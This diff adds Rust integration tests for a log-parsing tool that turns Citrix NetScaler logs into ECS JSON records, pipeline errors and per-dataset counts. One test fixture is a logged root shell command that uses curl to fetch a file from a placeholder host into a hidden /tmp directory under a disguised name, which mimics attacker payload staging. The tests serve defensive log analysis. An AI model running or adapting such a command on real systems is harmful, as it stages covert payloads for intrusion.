@@ -85,3 +85,56 @@ fn version_and_help() {
     let help = String::from_utf8_lossy(&out.stdout);
     assert!(help.contains("run") && help.contains("check") && help.contains("--config"), "{help}");
 }
+
+#[test]
+fn parse_prints_one_ecs_object_per_record_and_pipeline_errors_for_the_rest() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("mixed.log");
+    std::fs::write(
+        &file,
+        concat!(
+            "<134> 01/10/2020:08:57:43 GMT vpx01 0-PPE-0 : default SSLVPN LOGIN 42 0 : Context alice@10.1.2.3 - SessionId: 9 - User alice\n",
+            "\n",
+            "Jan 19 24:26:52 <local7.notice> vpx01 bash[1297]: root on /dev/pts/0 shell_command=\"\n",
+            "curl -k https://x/y -o /tmp/.init/httpd\"\n",
+            "nothing to see here\n",
+        ),
+    )
+    .unwrap();
+    let out = gatewatch(dir.path(), &["parse", file.to_str().unwrap()], &[]);
+    assert!(out.status.success(), "{}", text(&out));
+    let docs: Vec<serde_json::Value> =
+        String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    assert_eq!(docs.len(), 3, "{docs:?}");
+    assert_eq!(docs[0]["event"]["dataset"], "citrix_adc.log");
+    assert_eq!(docs[0]["user"]["name"], "alice");
+    assert_eq!(docs[0]["gatewatch"]["source"]["line"], 1);
+    assert_eq!(docs[1]["event"]["dataset"], "citrix_adc.shell");
+    assert_eq!(docs[1]["process"]["command_line"], "curl -k https://x/y -o /tmp/.init/httpd");
+    assert_eq!(docs[1]["gatewatch"]["source"]["line"], 3);
+    assert_eq!(docs[2]["event"]["kind"], "pipeline_error");
+    assert!(docs[2]["error"]["message"].as_str().unwrap().contains("no NetScaler header"));
+}
+
+#[test]
+fn parse_stats_count_per_dataset_and_take_the_dataset_from_the_file_name() {
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("httperror.log");
+    std::fs::write(&file, "wget: not found\n[Wed Jan 15 15:09:05 2020] [error] [client 1.2.3.4] File does not exist\n")
+        .unwrap();
+    let out = gatewatch(dir.path(), &["parse", "--stats", file.to_str().unwrap()], &[]);
+    assert!(out.status.success(), "{}", text(&out));
+    let stats = String::from_utf8_lossy(&out.stdout);
+    let row: Vec<&str> =
+        stats.lines().find(|l| l.starts_with("citrix_adc.httperror")).unwrap().split_whitespace().collect();
+    assert_eq!(row, ["citrix_adc.httperror", "2", "0", "0"], "{stats}");
+    // Without the file name's hint, the free-text stderr line is an error.
+    let renamed = dir.path().join("other.log");
+    std::fs::copy(&file, &renamed).unwrap();
+    let out = gatewatch(dir.path(), &["parse", "--stats", renamed.to_str().unwrap()], &[]);
+    let stats = String::from_utf8_lossy(&out.stdout);
+    assert!(stats.lines().any(|l| l.split_whitespace().collect::<Vec<_>>() == ["-", "0", "0", "1"]), "{stats}");
+    let out = gatewatch(dir.path(), &["parse", "--dataset", "apache", renamed.to_str().unwrap()], &[]);
+    assert!(!out.status.success());
+    assert!(text(&out).contains("apache"), "{}", text(&out));
+}
